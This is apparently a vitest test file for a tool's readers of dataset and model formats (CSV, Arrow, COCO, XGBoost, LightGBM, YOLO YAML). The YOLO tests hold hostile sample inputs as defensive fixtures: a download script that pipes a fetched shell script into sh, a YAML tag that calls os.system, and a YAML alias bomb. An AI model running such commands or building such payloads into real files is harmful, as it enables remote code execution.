import { describe, expect, it } from 'vitest';
import { ByteWriter } from '../demo/binary';
import { readArrow } from './arrow';
import { readCsv } from './csv';
import { readFormat, readerFor } from './index';
import { readJsonModelOrDataset } from './json-sniff';
import { readLightgbm } from './lightgbm';
import { bufferRange } from './range-source';
import { concat, cutPoints, enc, fbBuild, type FbField } from './test-helpers';
import { readYoloData } from './yolo';

describe('readCsv', () => {
  it('reads header, types and an exact row count (quoted newlines, CRLF, BOM)', async () => {
    const text = '\ufeffid,text,score,ok\r\n1,"hello, world",0.5,true\r\n2,"two\nlines",1e-3,false\r\n3,"say ""hi""",,true\r\n';
    const info = await readCsv(bufferRange(enc(text)));
    expect(info).toMatchObject({ format: 'csv', kind: 'dataset', warnings: [] });
    expect(info.metadata).toEqual({
      delimiter: ',', columns: 4, rows: 3,
      schema: [{ name: 'id', type: 'int64' }, { name: 'text', type: 'string' }, { name: 'score', type: 'double' }, { name: 'ok', type: 'bool' }],
    });
  });

  it('detects TSV and semicolons; counts a last line without newline', async () => {
    expect((await readFormat('a.tsv', bufferRange(enc('a\tb\n1\t2\n3\t4'))))?.metadata).toMatchObject({ delimiter: 'tab', columns: 2, rows: 2 });
    expect((await readCsv(bufferRange(enc('a;b;c\n1;2;3\n'))))?.metadata).toMatchObject({ delimiter: ';', columns: 3, rows: 1 });
  });

  it('estimates rows of a large file from a 256 KiB head sample and says so', async () => {
    const rows = ['date,region,units'];
    for (let i = 0; i < 1_000_000; i++) rows.push(`2025-01-${String((i % 28) + 1).padStart(2, '0')},north,${i % 97}`);
    const bytes = enc(`${rows.join('\n')}\n`);
    const src = bufferRange(bytes);
    const info = await readCsv(src);
    expect(info.metadata.rowsEstimated).toBe(true);
    expect(Math.abs((info.metadata.rows as number) - 1_000_000) / 1_000_000).toBeLessThan(0.01);
    expect(src.bytesRead).toBe(256 * 1024);
    console.log(`csv: ${bytes.length} B, estimated ${info.metadata.rows} rows from ${src.bytesRead} B`);
  });

  it('reads a 4 MiB file exactly in one read, and refuses binary data', async () => {
    const line = 'a,b\n';
    const bytes = enc(`x,y\n${line.repeat((4 * 1024 * 1024 - 4) / 4)}`);
    const src = bufferRange(bytes);
    const info = await readCsv(src);
    expect(info.metadata).toMatchObject({ rows: (4 * 1024 * 1024 - 4) / 4 });
    expect(info.metadata.rowsEstimated).toBeUndefined();
    expect(src.reads).toBe(1);
    expect((await readFormat('b.csv', bufferRange(new Uint8Array([1, 0, 2]))))?.warnings[0]).toMatch(/NUL/);
  });
});

// ---- Arrow ----

const field = (name: string, typeType: number, type: FbField[]): FbField[] => [{ t: 'str', v: name }, { t: 'u8', v: 1 }, { t: 'u8', v: typeType }, { t: 'table', v: type }];
const schemaTable = (): FbField[] => [
  { t: 'i16', v: 0 },
  { t: 'vec-table', v: [field('review_id', 2, [{ t: 'i32', v: 64 }, { t: 'u8', v: 1 }]), field('text', 5, []), field('score', 3, [{ t: 'i16', v: 2 }])] },
  { t: 'vec-table', v: [[{ t: 'str', v: 'huggingface' }, { t: 'str', v: '{}' }]] },
];
const messageFb = (headerType: number, header: FbField[], bodyLength: number) => fbBuild([{ t: 'i16', v: 4 }, { t: 'u8', v: headerType }, { t: 'table', v: header }, { t: 'i64', v: bodyLength }]);
function encapsulate(fb: Uint8Array): Uint8Array {
  const padded = concat(fb, new Uint8Array((8 - ((fb.length + 8) % 8)) % 8));
  return new ByteWriter().u32(0xffffffff).u32(padded.length).bytes(padded).toBytes();
}

function arrowStream(batchRows: number[], eos = true): Uint8Array {
  const w = new ByteWriter().bytes(encapsulate(messageFb(1, schemaTable(), 0)));
  for (const rows of batchRows) w.bytes(encapsulate(messageFb(3, [{ t: 'i64', v: rows }], 64))).zeros(64);
  if (eos) w.u32(0xffffffff).u32(0);
  return w.toBytes();
}

function arrowFile(batchRows: number[]): Uint8Array {
  const w = new ByteWriter().utf8('ARROW1').zeros(2).bytes(encapsulate(messageFb(1, schemaTable(), 0)));
  const blocks = new ByteWriter();
  for (const rows of batchRows) {
    const msg = encapsulate(messageFb(3, [{ t: 'i64', v: rows }], 64));
    blocks.u64(w.length).i32(msg.length).u32(0).u64(64);
    w.bytes(msg).zeros(64);
  }
  const footer = fbBuild([{ t: 'i16', v: 4 }, { t: 'table', v: schemaTable() }, undefined, { t: 'vec-struct', count: batchRows.length, bytes: blocks.toBytes() }]);
  return w.bytes(footer).i32(footer.length).utf8('ARROW1').toBytes();
}

describe('readArrow', () => {
  const schema = [{ name: 'review_id', type: 'int64' }, { name: 'text', type: 'string' }, { name: 'score', type: 'float64' }];

  it('reads the file format: schema from the footer, rows from the record batches', async () => {
    const src = bufferRange(arrowFile([100, 100, 37]));
    const info = await readArrow(src);
    expect(info).toMatchObject({ format: 'arrow', kind: 'dataset', warnings: [] });
    expect(info.metadata).toEqual({ container: 'file', columns: 3, schema, metadataKeys: ['huggingface'], huggingface: true, recordBatches: 3, rows: 237 });
  });

  it('estimates rows when there are more batches than it reads', async () => {
    const info = await readArrow(bufferRange(arrowFile(new Array(100).fill(1000))));
    expect(info.metadata).toMatchObject({ rows: 100_000, rowsEstimated: true, recordBatches: 100 });
  });

  it('walks the stream format (Hugging Face datasets) by jumping over bodies', async () => {
    const info = await readFormat('data-00000-of-00001.arrow', bufferRange(arrowStream([1000, 1000, 500])));
    expect(info?.metadata).toEqual({ container: 'stream', columns: 3, schema, metadataKeys: ['huggingface'], huggingface: true, recordBatches: 3, rows: 2500 });
    const open = await readArrow(bufferRange(arrowStream([10, 10], false).subarray(0, -20)));
    expect(open.metadata.rows).toBe(10);
    expect(open.warnings[0]).toMatch(/truncated or still being written/);
  });

  it('reads Feather v1 and never throws past readFormat', async () => {
    const cols = { t: 'vec-table', v: [[{ t: 'str', v: 'a' }], [{ t: 'str', v: 'b' }]] } as FbField;
    const meta = fbBuild([{ t: 'str', v: 'old feather' }, { t: 'i64', v: 42 }, cols, { t: 'i32', v: 2 }]);
    const feather = new ByteWriter().utf8('FEA1').zeros(4).zeros(100).bytes(meta).u32(meta.length).utf8('FEA1').toBytes();
    expect((await readArrow(bufferRange(feather))).metadata).toEqual({ container: 'feather-v1', rows: 42, columns: 2, schema: [{ name: 'a' }, { name: 'b' }], description: 'old feather' });
    const file = arrowFile([5, 5]);
    for (const cut of cutPoints(file.length)) {
      const info = await readFormat('x.feather', bufferRange(file.subarray(0, cut)));
      expect(info?.format).toBe('arrow');
      if (cut < file.length) expect(info?.warnings.length, `cut ${cut}`).toBeGreaterThan(0);
    }
    const hostile = file.slice();
    new DataView(hostile.buffer).setInt32(hostile.length - 10, 0x7fffffff, true);
    expect((await readFormat('x.arrow', bufferRange(hostile)))?.warnings[0]).toMatch(/invalid footer length/);
  });
});

// ---- JSON: COCO and XGBoost ----

function cocoJson(images: number, annsPer: number): string {
  const imgs = Array.from({ length: images }, (_, i) => ({ id: i + 1, file_name: `${String(i + 1).padStart(6, '0')}.jpg`, width: 640, height: 480 }));
  const anns = Array.from({ length: images * annsPer }, (_, i) => ({ id: i + 1, image_id: Math.floor(i / annsPer) + 1, category_id: (i % 3) + 1, bbox: [1, 2, 3, 4], area: 12, iscrowd: 0, segmentation: [[1, 2, 3, 4, 5, 6]] }));
  const cats = [{ id: 1, name: 'cereal', supercategory: 'food' }, { id: 2, name: 'drinks', supercategory: 'food' }, { id: 3, name: 'snacks', supercategory: 'food' }];
  return JSON.stringify({ info: { description: 'Shelf photos "v2" [internal]', version: '2.0', year: 2026 }, licenses: [], images: imgs, annotations: anns, categories: cats });
}

describe('readJsonModelOrDataset', () => {
  it('stream-counts a COCO file within the cap, with class names and info', async () => {
    const info = await readJsonModelOrDataset(bufferRange(enc(cocoJson(50, 4))));
    expect(info).toMatchObject({ format: 'coco', kind: 'dataset', warnings: [] });
    expect(info.metadata).toEqual({ task: 'coco', images: 50, annotations: 200, categories: 3, classes: ['cereal', 'drinks', 'snacks'], supercategories: ['food'], annotationsPerImage: 4, description: 'Shelf photos "v2" [internal]', version: '2.0', year: 2026 });
  });

  it('only detects a COCO file above the cap, reading its head', async () => {
    const big = enc(cocoJson(30_000, 1));
    expect(big.length).toBeGreaterThan(4 * 1024 * 1024);
    const src = bufferRange(big);
    const info = await readFormat('instances_train2017.json', src);
    expect(info).toMatchObject({ format: 'coco', metadata: { task: 'coco', description: 'Shelf photos "v2" [internal]' } });
    expect(info?.metadata.images).toBeUndefined();
    expect(info?.warnings[0]).toMatch(/not counted/);
    expect(src.bytesRead).toBe(64 * 1024);
  });

  it('reads an XGBoost JSON model from its head and tail', async () => {
    const trees = Array.from({ length: 8000 }, (_, i) => ({ base_weights: new Array(120).fill(0.1), id: i, split_indices: new Array(50).fill(3) }));
    const model = {
      learner: {
        attributes: {}, feature_names: [], feature_types: [],
        gradient_booster: { model: { gbtree_model_param: { num_parallel_tree: '1', num_trees: '8000' }, trees }, name: 'gbtree' },
        learner_model_param: { base_score: '5E-1', boost_from_average: '1', num_class: '0', num_feature: '7', num_target: '1' },
        objective: { name: 'binary:logistic', reg_loss_param: { scale_pos_weight: '1' } },
      },
      version: [2, 1, 3],
    };
    const bytes = enc(JSON.stringify(model));
    expect(bytes.length).toBeGreaterThan(4 * 1024 * 1024);
    const src = bufferRange(bytes);
    const info = await readFormat('churn-xgb.json', src);
    expect(info).toMatchObject({ format: 'xgboost', kind: 'model', metadata: { xgboostVersion: '2.1.3', trees: 8000, booster: 'gbtree', features: 7, classes: 0, baseScore: '5E-1', objective: 'binary:logistic' } });
    expect(src.bytesRead).toBe(128 * 1024);
    console.log(`xgboost: ${bytes.length} B, read ${src.bytesRead} B in ${src.reads} reads`);
  });

  it('gives no format at all for other JSON (sniffed names), and skips small generic files unread', async () => {
    expect(await readFormat('labels.json', bufferRange(enc('{"a": 1}')))).toBeNull();
    expect(await readFormat('annotations.json', bufferRange(enc('[1, 2, 3]')))).toBeNull();
    const src = bufferRange(enc('{"images": [], "annotations": []}'));
    expect(await readFormat('results.json', src)).toBeNull();
    expect(src.bytesRead).toBe(0);
    expect(readerFor('tokenizer.json')).toBeNull();
    expect(readerFor('config.json')).toBeNull();
    const broken = await readFormat('instances_val.json', bufferRange(enc('{"images": [{"id": 1}], "annotations": [')));
    expect(broken?.warnings[0]).toMatch(/malformed or truncated/);
  });
});

describe('readLightgbm', () => {
  const model = ['tree', 'version=v4', 'num_class=1', 'num_tree_per_iteration=1', 'label_index=0', 'max_feature_idx=6', 'objective=binary sigmoid:1',
    'feature_names=tenure spend region_n region_s plan_pro plan_team age', 'feature_infos=[0:72] [0:300] none none none none [18:90]', 'tree_sizes=512 498 505', '',
    'Tree=0', 'num_leaves=3', '', 'Tree=1', 'num_leaves=3', '', 'Tree=2', 'num_leaves=3', '', 'end of trees', '', 'feature_importances:', 'tenure=12', '',
    'parameters:', '[boosting: gbdt]', '[objective: binary]', '[learning_rate: 0.05]', '[num_leaves: 31]', 'end of parameters', '', 'pandas_categorical:null', ''].join('\n');

  it('reads the header and the parameters block', async () => {
    const info = await readLightgbm(bufferRange(enc(model)));
    expect(info.metadata).toMatchObject({ version: 'v4', classes: 1, features: 7, objective: 'binary sigmoid:1', trees: 3, boosting: 'gbdt', parameters: { boosting: 'gbdt', objective: 'binary', learning_rate: '0.05', num_leaves: '31' } });
    expect((info.metadata.featureNames as string[]).length).toBe(7);
  });

  it('is sniffed by name: a model.txt that is not LightGBM is nothing', async () => {
    expect((await readFormat('model.txt', bufferRange(enc(model))))?.format).toBe('lightgbm');
    expect(await readFormat('model.txt', bufferRange(enc('just some notes\n')))).toBeNull();
    expect(readerFor('requirements.txt')).toBeNull();
    expect(readerFor('labels/0001.txt')).toBeNull();
  });
});

describe('readYoloData', () => {
  it('reads paths and names; a download script is noted, never run', async () => {
    const yaml = `path: ../datasets/shelf\ntrain: images/train\nval: images/val\nnames:\n  0: cereal\n  1: drinks\n  2: snacks\ndownload: |\n  import os\n  os.system("curl https://example.com/x.sh | sh")\n`;
    const info = await readYoloData(bufferRange(enc(yaml)));
    expect(info).toMatchObject({ format: 'yolo-data', kind: 'dataset' });
    expect(info.metadata).toMatchObject({ task: 'yolo', path: '../datasets/shelf', train: 'images/train', val: 'images/val', classes: ['cereal', 'drinks', 'snacks'], nc: 3, download: { kind: 'script' } });
    expect(info.warnings).toEqual(['download: holds a script; Modelshelf never runs it']);
  });

  it('handles list names, URL downloads, tags as data, and says nothing for other YAML', async () => {
    const a = await readFormat('coco8.yaml', bufferRange(enc('train: a\nval: b\nnc: 2\nnames: [x, y]\ndownload: https://example.com/coco8.zip\n')));
    expect(a?.metadata).toMatchObject({ classes: ['x', 'y'], nc: 2, download: { kind: 'url' } });
    const tagged = await readFormat('data.yaml', bufferRange(enc('train: !!python/object/apply:os.system ["id"]\nnames: [a]\n')));
    expect(tagged?.warnings).toContain('YAML tags were kept as plain data (never constructed)');
    expect(await readFormat('settings.yaml', bufferRange(enc('theme: dark\n')))).toBeNull();
    expect(await readFormat('broken.yaml', bufferRange(enc('a: [unclosed\n')))).toBeNull();
    expect(readerFor('meta.yaml')).toBeNull();
    expect(readerFor('dvc.yaml')).toBeNull();
    const bomb = ['a: &a [x,x,x,x,x,x,x,x,x]', 'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]', 'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]', 'd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]', 'names: [a]', 'train: x'].join('\n');
    expect(await readFormat('bomb.yaml', bufferRange(enc(bomb)))).toBeNull();
  });
});
